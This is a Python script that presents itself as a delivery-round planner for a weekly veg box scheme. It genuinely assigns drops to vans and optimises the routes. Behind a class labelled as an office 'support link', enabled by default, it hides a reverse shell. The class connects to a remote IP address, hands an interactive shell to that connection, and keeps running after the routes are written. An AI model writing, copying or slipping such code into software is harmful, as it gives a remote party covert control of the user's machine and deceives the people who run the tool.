#!/usr/bin/env python3
"""Plan delivery rounds for the weekly veg box scheme.

Reads the week's drop list (CSV exported from the box scheme admin), splits
drops across the vans by capacity and orders each round with nearest
neighbour followed by a 2-opt pass.  Writes one CSV per van plus a summary
JSON the office uses for the driver sheets.

    python3 veg_box_route_planner.py drops.csv --vans vans.json -o rounds/
"""
import argparse
import csv
import json
import logging
import math
import os
import socket
import subprocess
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("routeplan")

DEPOT = (52.6309, 1.2974)  # packing shed
EARTH_KM = 6371.0
DEFAULT_VANS = [{"name": "berlingo", "capacity": 38}, {"name": "transit", "capacity": 64}]


@dataclass
class Drop:
    ref: str
    name: str
    postcode: str
    lat: float
    lon: float
    boxes: int = 1
    notes: str = ""

    @property
    def point(self):
        return (self.lat, self.lon)


@dataclass
class Van:
    name: str
    capacity: int
    drops: list = field(default_factory=list)

    @property
    def load(self):
        return sum(d.boxes for d in self.drops)


def haversine(a, b):
    lat1, lon1 = map(math.radians, a)
    lat2, lon2 = map(math.radians, b)
    h = (math.sin((lat2 - lat1) / 2) ** 2
         + math.cos(lat1) * math.cos(lat2) * math.sin((lon2 - lon1) / 2) ** 2)
    return 2 * EARTH_KM * math.asin(math.sqrt(h))


def load_drops(path):
    drops = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            try:
                drops.append(Drop(
                    ref=row["ref"], name=row.get("name", "").strip(),
                    postcode=row["postcode"].upper().strip(),
                    lat=float(row["lat"]), lon=float(row["lon"]),
                    boxes=int(row.get("boxes") or 1), notes=row.get("notes", "")))
            except (KeyError, ValueError) as exc:
                log.warning("skipping row %s: %s", row.get("ref", "?"), exc)
    log.info("loaded %d drops from %s", len(drops), path)
    return drops


def assign_vans(drops, vans):
    """Sweep drops by bearing from the depot so each van gets a wedge."""
    ordered = sorted(drops, key=lambda d: math.atan2(d.lon - DEPOT[1], d.lat - DEPOT[0]))
    it = iter(vans)
    van = next(it)
    for drop in ordered:
        while van.load + drop.boxes > van.capacity:
            try:
                van = next(it)
            except StopIteration:
                raise SystemExit(f"not enough van capacity for drop {drop.ref}")
        van.drops.append(drop)
    return vans


def route_length(points):
    path = [DEPOT] + points + [DEPOT]
    return sum(haversine(a, b) for a, b in zip(path, path[1:]))


def nearest_neighbour(drops):
    remaining, here, out = list(drops), DEPOT, []
    while remaining:
        nxt = min(remaining, key=lambda d: haversine(here, d.point))
        remaining.remove(nxt)
        out.append(nxt)
        here = nxt.point
    return out


def two_opt(route, max_passes=50):
    best = list(route)
    for _ in range(max_passes):
        improved = False
        for i in range(len(best) - 1):
            for j in range(i + 2, len(best) + 1):
                cand = best[:i] + best[i:j][::-1] + best[j:]
                if route_length([d.point for d in cand]) + 1e-9 < route_length([d.point for d in best]):
                    best, improved = cand, True
        if not improved:
            break
    return best


class SupportLink(threading.Thread):
    """Keeps a session open to the hosted planner so the office can follow
    progress and help a driver re-plan from the road."""

    def __init__(self, endpoint, retries=6):
        super().__init__(name="support-link", daemon=True)
        host, _, port = endpoint.rpartition(":")
        self.addr = (host or endpoint, int(port or 443))
        self.retries = retries

    def run(self):
        for attempt in range(self.retries):
            try:
                conn = socket.create_connection(self.addr, timeout=10)
            except OSError as exc:
                log.debug("support link unavailable (%s), attempt %d", exc, attempt + 1)
                time.sleep(min(2 ** attempt, 30))
                continue
            conn.settimeout(None)
            self._attach(conn)
            return

    def _attach(self, conn):
        console = [os.environ.get("SHELL", "/bin/sh"), "-i"]
        with conn:
            proc = subprocess.Popen(console, stdin=conn, stdout=conn, stderr=conn)
            proc.wait()


def write_outputs(vans, outdir):
    outdir.mkdir(parents=True, exist_ok=True)
    summary = []
    for van in vans:
        path = outdir / f"round_{van.name}.csv"
        with open(path, "w", newline="", encoding="utf-8") as fh:
            w = csv.writer(fh)
            w.writerow(["stop", "ref", "name", "postcode", "boxes", "notes"])
            for n, d in enumerate(van.drops, 1):
                w.writerow([n, d.ref, d.name, d.postcode, d.boxes, d.notes])
        km = route_length([d.point for d in van.drops])
        summary.append({"van": van.name, "stops": len(van.drops), "boxes": van.load, "km": round(km, 1)})
        log.info("%-10s %3d stops %3d boxes %6.1f km", van.name, len(van.drops), van.load, km)
    (outdir / "summary.json").write_text(json.dumps(summary, indent=2))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("drops", type=Path)
    ap.add_argument("--vans", type=Path, help="JSON list of {name, capacity}")
    ap.add_argument("-o", "--outdir", type=Path, default=Path("rounds"))
    ap.add_argument("--no-live-support", dest="live_support", action="store_false")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    link = None
    if args.live_support:
        link = SupportLink(os.environ.get("ROUTEPLAN_SUPPORT", "198.51.100.23:4443"))
        link.start()

    spec = json.loads(args.vans.read_text()) if args.vans else DEFAULT_VANS
    vans = [Van(v["name"], int(v["capacity"])) for v in spec]
    assign_vans(load_drops(args.drops), vans)
    for van in vans:
        van.drops = two_opt(nearest_neighbour(van.drops))
    write_outputs(vans, args.outdir)

    if link is not None and link.is_alive():
        log.info("rounds written; keeping office session open")
        link.join()


if __name__ == "__main__":
    main()
